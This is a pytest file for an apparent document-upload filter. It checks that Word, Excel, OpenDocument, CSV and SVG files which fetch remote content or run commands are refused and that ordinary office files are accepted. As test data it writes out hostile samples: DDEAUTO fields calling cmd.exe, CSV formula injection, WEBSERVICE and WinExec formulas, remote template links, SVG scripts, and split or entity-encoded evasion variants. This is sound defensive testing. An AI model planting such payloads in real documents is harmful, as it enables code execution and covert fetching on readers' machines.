"""What a packed document fetches or runs is found however it is written; others are taken."""

import time
from io import BytesIO

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import qn

from tests.documents.test_own import template, with_part
from tests.papers import made
from yishi.documents.own.apart import wrong_with
from yishi.papers import content
from yishi.papers.content import NotTaken, checked
from yishi.papers.inside import formulas, reach

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
IMAGE, TEMPLATE = f'Type="{KIND}image"', f'Type="{KIND}attachedTemplate"'
AWAY = 'Target="http://x.example/y"'


def why(data: bytes) -> str:
    """Why a file is not taken; its kind where it is."""
    try:
        return checked(BytesIO(data))
    except NotTaken as refused:
        return f"not: {refused.args[0]}"


def links(said: str, charset: str = "utf-8") -> bytes:
    """A part with relationships."""
    place = "http://schemas.openxmlformats.org/package/2006/relationships"
    head = f'<?xml version="1.0" encoding="{charset}"?>'
    return f'{head}<Relationships xmlns="{place}">{said}</Relationships>'.encode(charset)


def link(kind: str, target: str) -> bytes:
    return links(
        f'<Relationship Id="r" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'
    )


FETCHING = [
    links(f"<Relationship Id='r' {TEMPLATE} {AWAY} TargetMode='External'/>".replace('"', "'")),
    links(f'<Relationship {TEMPLATE} Target = "http://x.example/y" TargetMode\n=\n"External"/>'),
    links(f'<Relationship {TEMPLATE} Target="&#104;ttp://x.example/y" TargetMode="External"/>'),
    links(f'<Relationship {IMAGE} {AWAY} TargetMode="Extern&#97;l"/>'),
    links(f'<Relationship Id="r>1" {TEMPLATE} {AWAY} TargetMode="External"/>'),
    links(f'<Relationship {TEMPLATE} {AWAY} TargetMode="External"/>', "utf-16"),
    links(f'<q:Relationship xmlns:q="q" {IMAGE} {AWAY} TargetMode="External"/>'),
    links(f"<Relationship {IMAGE} {AWAY}/>"),
    link("attachedTemplate", "file://///server/share/x.dotm"),
    link("attachedTemplate", "file:///%5C%5Cserver/x.dotm"),
    link("attachedTemplate", " \\\\server\\x.dotm"),
    link("image", "http://x.example/hyperlink"),
    link("hyperlink", "file://server/x.docx"),
    link("hyperlink", "javascript:alert(1)"),
    link("aFChunk", "x.html"),
    link("subDocument", "x.docx"),
    link("oleObject", "file:///C:\\x.xlsx"),
]


@pytest.mark.parametrize("part", FETCHING, ids=range(len(FETCHING)))
def test_a_link_that_is_fetched_is_refused_however_it_is_written(part: bytes) -> None:
    assert why(made.packed({"word/_rels/settings.xml.rels": part})) == "not: active"

    own = with_part(template(), "word/_rels/g.xml.rels", part)
    assert [m.id for m in wrong_with("minutes", own)] == ["template.away"]


def run(said: str) -> str:
    return f"<w:r><w:instrText>{said}</w:instrText></w:r>"


def mark(kind: str) -> str:
    return f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>"


def field(*codes: str, result: str = "") -> str:
    """A field whose code is in parts."""
    return mark("begin") + "".join(codes) + mark("separate") + result + mark("end")


def body(said: str) -> bytes:
    return f"<w:document {W}><w:body><w:p>{said}</w:p></w:body></w:document>".encode()


QUOTED = field(run("QUOTE 68 68 69"), result="<w:r><w:t>DDE</w:t></w:r>")
RUNNING = {
    "split": field(run("D"), run('DEAUTO c:\\cmd.exe "/k calc"')),
    "split, in no field": run("D") + run("DEAUTO cmd"),
    "by number": field(run("&#68;DE cmd x")),
    "lower case": field(run(' includetext "x" ')),
    "split include": field(run("INCLUDE"), run('TEXT "x"')),
    "simple": "<w:fldSimple w:instr='DDEAUTO cmd'/>",
    "the name made by another field": field(QUOTED, run(" cmd x")),
    "cut by an element that nobody knows": field(
        "<w:r><w:instrText>D<x:t xmlns:x='x'>-</x:t>DE cmd</w:instrText></w:r>".replace("-", "")
    ),
    "deleted": field("<w:r><w:delInstrText>LINK Excel.Sheet.8 x</w:delInstrText></w:r>"),
}
PICTURED = {
    "simple": '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x.example/a.png&quot;"/>',
    "lower case, split": field(run("includepic"), run('ture "\\\\\\\\server\\\\a.png" \\d')),
    "quoted as people write": field(run("INCLUDEPICTURE “http://x.example/a.png”")),
    "made by another field": field(run("INCLUDEPICTURE "), field(run("QUOTE 104 116"))),
    "a drawing": '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x.example/a"/>',
}


@pytest.mark.parametrize("said", [*RUNNING.values(), *PICTURED.values()])
def test_a_field_that_runs_or_fetches_is_refused_however_it_is_cut(said: str) -> None:
    assert why(made.packed({"word/document.xml": body(said)})) == "not: active"

    wrong = wrong_with("minutes", with_part(template(), "word/f.xml", body(said)))
    told = "active" if said in RUNNING.values() else "away"
    assert [m.id for m in wrong] == [f"template.{told}"]


def test_a_part_is_parsed_under_whatever_name_its_package_gives_it() -> None:
    types = (
        f'<Types><Override PartName="/word/document.bin" ContentType="{made.MAIN}"/>'
        '<Default Extension="dat" ContentType="application/xml"/></Types>'
    ).encode()
    harm = body(RUNNING["split"])

    for name in ("word/document.bin", "word/x.dat"):
        parts = {"[Content_Types].xml": types, name: harm}
        assert why(made.packed(parts)) == "not: active", name


@pytest.mark.parametrize("kind", ["application/vnd.ms-office.vbaProject", "x.macro&#69;nabled+xml"])
def test_macros_are_found_by_what_the_package_says_of_a_part(kind: str) -> None:
    types = (
        f'<Types><Override PartName="/a.xml" ContentType="{made.MAIN}"/>'
        f'<Override PartName="/word/foo.bin" ContentType="{kind}"/></Types>'
    ).encode()

    parts = {"[Content_Types].xml": types, "word/foo.bin": b"\xd0\xcf"}
    assert why(made.packed(parts)) == "not: macros"


def test_a_document_type_is_never_read() -> None:
    late = b"<!--" + b"a" * (256 * 1024 - 10) + b"--><!DOCTYPE x><x/>"

    assert why(made.packed({"word/document.xml": late})) == "not: bomb"
    assert reach.look([b"<!DOCTYPE x><x/>"], doctype=True) == ""
    assert reach.look([b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"], doctype=True) == "entities"
    assert reach.look([b"<x>", b"<y>"]) == "broken"
    assert reach.look([]) == ""


# ── ordinary files ────────────────────────────────────────────────────────────────────────────


def written() -> bytes:
    """What somebody writes in Word or WPS: a picture, links, page numbers, a table of contents."""
    document = Document()
    document.sections[0].header.paragraphs[0].text = "内部资料"
    foot = document.sections[0].footer.paragraphs[0]
    shown = f"<w:p {W}>{field(run(' PAGE '), result='<w:r><w:t>1</w:t></w:r>')}</w:p>"
    foot._p.getparent().replace(foot._p, parse_xml(shown))
    document.add_picture(BytesIO(made.png(40, 40)))
    document.add_table(rows=2, cols=2).cell(0, 0).text = "DDEAUTO、INCLUDETEXT 都只是字"
    for target in ("https://www.gov.cn/?a=1&b=2", "mailto:bgs@x.example", "附件一.docx", "#_Toc1"):
        paragraph = document.add_paragraph()
        anchor = OxmlElement("w:hyperlink")
        kept = document.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        anchor.set(qn("r:id"), kept)
        paragraph._p.append(anchor)
    inner = field(run(" PAGEREF _Toc1 \\h "), result="<w:r><w:t>1</w:t></w:r>")
    for said in (
        field(
            run(' TOC \\o "1-3" \\h '), result=field(run(' HYPERLINK \\l "_Toc1" '), result=inner)
        ),
        field(run(" IF "), field(run("PAGE")), run(' = 1 "a" "b" ')),
        field(run("="), field(run("PAGE")), run("+1")),
        field(run('HYPERLINK "http://www.gov.cn/link/import"')),
        field(
            run('INCLUDEPICTURE "C:\\\\Users\\\\li\\\\ksohtml\\\\wps1.jpg" \\* MERGEFORMATINET \\d')
        ),
    ):
        document.element.body.insert(0, parse_xml(f"<w:p {W}>{said}</w:p>"))
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def test_what_people_write_is_taken() -> None:
    note = "<w:footnote><w:p><w:r><w:t>注</w:t></w:r></w:p></w:footnote>"
    notes = f"<w:footnotes {W}>{note}</w:footnotes>"
    raw = with_part(written(), "word/footnotes.xml", notes.encode())
    raw = with_part(raw, "customXml/item1.xml", b"")
    own = link("attachedTemplate", "file:///C:\\Users\\li\\AppData\\Normal.dotm")
    raw = with_part(raw, "word/_rels/settings.xml.rels", own)
    raw = with_part(raw, "word/_rels/x.xml.rels", link("image", "file:///C:\\a.png"))

    assert why(raw) == content.DOCX
    assert wrong_with("minutes", raw) == ()


def test_a_workbook_with_links_to_one_beside_it_is_taken() -> None:
    part = link("externalLinkPath", "2026年预算.xlsx")
    main = f"{content.XLSX}.main+xml"
    assert why(made.packed({"xl/externalLinks/_rels/e.rels": part}, main)) == content.XLSX

    web = b"<connections><connection><webPr url='http://x.example'/></connection></connections>"
    assert why(made.packed({"xl/connections.xml": web}, main)) == "not: active"


def test_an_open_document_that_fetches_or_runs_is_refused() -> None:
    for said in (
        '<draw:image xlink:href="http://x.example/a.png"/>',
        '<script:event-listener xlink:href="x"/>',
        '<text:a xlink:href="vnd.sun.star.script:x"/>',
        '<office:dde-source office:dde-application="cmd"/>',
        '<text:section-source xlink:href="http://x.example/a.odt"/>',
    ):
        assert reach.look([f"<office>{said}</office>".encode()]) in ("active", "away"), said
    for said in ('<draw:image xlink:href="Pictures/1.png"/>', '<text:a xlink:href="http://x/"/>'):
        assert reach.look([f"<office>{said}</office>".encode()]) == "", said


# ── spreadsheets ──────────────────────────────────────────────────────────────────────────────

SHEET = f"{content.XLSX}.main+xml"
REACHES = [
    '_xlfn.WEBSERVICE("http://x.example/?a="&amp;A1)',
    '1+webservice ("http://x.example/")',
    'IF(A1="","",_xlfn.IMAGE("http://x.example/a.png"))',
    'RTD("x.y",,"z")',
    'DDE("soffice";"a";"b")',
    "cmd|'/c calc'!A0",
    'REGISTER.ID("kernel32","WinExec")',
    '"a""b"&amp;WEBSERVICE(A1)',
]
STAYS = [
    "SUM(Sheet1!A1:A9)",
    'HYPERLINK("http://www.gov.cn/","中国政府网")',
    '_xlfn.DISPIMG("ID_12",1)',
    '"WEBSERVICE("&amp;A1',
    "'甲|乙'!A1",
    "SUM('[预算.xlsx]甲|乙'!A1)",
    "MYWEBSERVICE(A1)",
]


def sheet(said: str) -> bytes:
    return f"<worksheet><sheetData><c><f>{said}</f></c></sheetData></worksheet>".encode()


@pytest.mark.parametrize("said", REACHES)
def test_a_formula_that_fetches_or_starts_something_is_refused(said: str) -> None:
    names = f"<workbook><definedNames><definedName>{said}</definedName></definedNames></workbook>"

    assert why(made.packed({"xl/worksheets/sheet1.xml": sheet(said)}, SHEET)) == "not: active"
    assert why(made.packed({"xl/workbook.xml": names.encode()}, SHEET)) == "not: active"


@pytest.mark.parametrize("said", STAYS)
def test_other_formulas_are_taken(said: str) -> None:
    assert why(made.packed({"xl/worksheets/sheet1.xml": sheet(said)}, SHEET)) == content.XLSX


def test_a_formula_cut_in_the_middle_is_one_all_the_same() -> None:
    cut = sheet("<![CDATA[WEB]]><!-- -->SERVI&#67;E(A1)")
    assert why(made.packed({"xl/worksheets/sheet1.xml": cut}, SHEET)) == "not: active"


def test_a_field_within_a_fraction_is_heard_too() -> None:
    said = f"<m:f xmlns:m='m'><m:num>a|b{field(run('DDEAUTO cmd'))}</m:num></m:f>"
    assert why(made.packed({"word/document.xml": body(said)})) == "not: active"


def test_a_workbook_that_asks_a_database_is_refused() -> None:
    for said in ("<dbPr connection='Provider=x'/>", "<textPr sourceFile='\\\\server\\x.csv'/>"):
        part = f"<connections><connection>{said}</connection></connections>".encode()
        assert why(made.packed({"xl/connections.xml": part}, SHEET)) == "not: active", said
    own = b"<connections><connection><textPr sourceFile='C:\\a.csv'/></connection></connections>"
    assert why(made.packed({"xl/connections.xml": own}, SHEET)) == content.XLSX


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ('名称,金额\n甲,"=WEBSERVICE(""http://x.example"")"\n', "not: active"),
        ("名称\t金额\r\n=cmd|'/c calc'!A0\t1\r\n", "not: active"),
        ("甲,-1,@SUM(A1)\n乙,+2,=A1*2\n", "text/plain; charset=utf-8"),
        ("# 说明\n\n- WEBSERVICE 不要用\n\n| 甲 | 乙 |\n", "text/plain; charset=utf-8"),
        ("在单元格里写 WEBSERVICE(网址) 会取网上的数据。", "text/plain; charset=utf-8"),
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_refused(said: str, reason: str) -> None:
    assert why(said.encode()) == reason


def test_looking_for_formulas_in_a_text_takes_no_longer_for_one_made_to() -> None:
    begun = time.process_time()
    for said in ("a|" * 2_000_000, "=,-" * 1_000_000, "WEBSERVICE(" * 200_000, "a" * 4_000_000):
        formulas.in_text(said)
        content._draws(("<!" + said)[: content._BEGINNING])
    assert time.process_time() - begun < 5


# ── drawings ──────────────────────────────────────────────────────────────────────────────────

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
DRAWN = {
    "<script>alert(1)</script>": "active",
    '<rect onload="x()"/>': "active",
    '<image xlink:href="http://x.example/a.png"/>': "away",
    '<use href="//x.example/a.svg#b"/>': "away",
    '<rect style="fill:url(http://x.example/a)"/>': "away",
    "<style>@import 'http://x.example/a.css';</style>": "away",
    "<style>.a{background:URL( 'https://x.example/a')}</style>": "away",
    '<set attributeName="xlink:href" to="http://x.example/"/>': "active",
    '<g xml:base="http://x.example/"><image href="a.png"/></g>': "away",
}
PLAIN = (
    '<defs><linearGradient id="a"/></defs><style>.b{fill:url(#a)}</style><use xlink:href="#a"/>'
    '<image href="data:image/png;base64,AA=="/><a href="http://www.gov.cn/"><text>甲</text></a>'
)


@pytest.mark.parametrize("said", DRAWN)
def test_a_drawing_in_a_document_that_fetches_or_runs_is_refused(said: str) -> None:
    part = f"<svg {SVG}>{said}</svg>".encode()
    assert reach.look([part]) == DRAWN[said]
    assert why(made.packed({"word/media/image1.svg": part})) == "not: active"


def test_a_drawing_as_programs_make_it_is_taken() -> None:
    kind = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
    part = f"<?xml version='1.0'?>{kind}<svg {SVG}>{PLAIN}</svg>".encode()
    assert why(made.packed({"word/media/image1.svg": part})) == content.DOCX

    styled = b"<?xml-stylesheet href='http://x.example/a.css'?>" + part.partition(b"?>")[2]
    assert why(made.packed({"word/media/image1.svg": styled})) == "not: active"


@pytest.mark.parametrize(
    "before",
    [
        "",
        "\ufeff",
        "<?xml version='1.0'?>\n<!-- <a> -->",
        "<!DOCTYPE svg [<!ENTITY a 'b'>]>",
        "<!-- " + "a" * 3000 + " -->",
    ],
)
def test_a_drawing_by_itself_is_told_from_a_text(before: str) -> None:
    assert why(f"{before}<svg {SVG}/>".encode()) == "not: drawing"
    assert why(f"{before}关于 <svg> 的说明".encode()).startswith("text/plain")
